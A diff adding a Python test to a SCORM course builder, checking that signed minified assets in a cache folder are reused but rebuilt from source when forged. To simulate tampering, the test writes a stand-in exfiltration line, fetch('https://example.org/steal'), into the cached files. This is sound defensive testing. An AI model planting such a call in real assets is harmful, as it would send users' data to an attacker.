@@ -201,6 +201,40 @@ def test_compiled_templates_edited_in_the_cache_folder_are_never_loaded(
     assert all(payload not in path.read_bytes() for path in kept)
 
 
+def test_a_new_process_ships_the_run_time_as_the_last_build_minified_it_but_never_a_forgery(
+    tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from scorm_builder import render
+
+    minified: list[str] = []
+    real = render.minify
+
+    def counting(name: str, data: bytes) -> bytes:
+        minified.append(name)
+        return real(name, data)
+
+    monkeypatch.setattr(render, "minify", counting)
+    render._minified.cache_clear()  # earlier tests' builds in this process minified them
+    source = two_lesson_course(tmp_path / "source")
+    first = zip_of(source, tmp_path / "dist")
+    assert "runtime.js" in minified
+    render._minified.cache_clear()  # as in a new process
+    minified.clear()
+    assert zip_of(source, tmp_path / "dist") == first
+    assert minified == []
+
+    # Someone who may write the cache folder, but has not the key, puts their own script there.
+    kept = sorted((cache / FORMAT / "static").iterdir())
+    assert len(kept) == 2  # the script and the style sheet
+    for path in kept:
+        signature = path.read_bytes().partition(b"\n")[0]
+        path.write_bytes(signature + b"\n" + b'fetch("https://example.org/steal")')
+    render._minified.cache_clear()
+    rebuilt = zip_of(source, tmp_path / "dist")
+    assert sorted(minified) == ["course.css", "runtime.js"]  # minified again from the source
+    assert rebuilt == first
+
+
 def test_nothing_changed_reads_nothing(tmp_path: Path, lessons_read: list[str]) -> None:
     source = two_lesson_course(tmp_path / "source")
     first = zip_of(source, tmp_path / "dist")
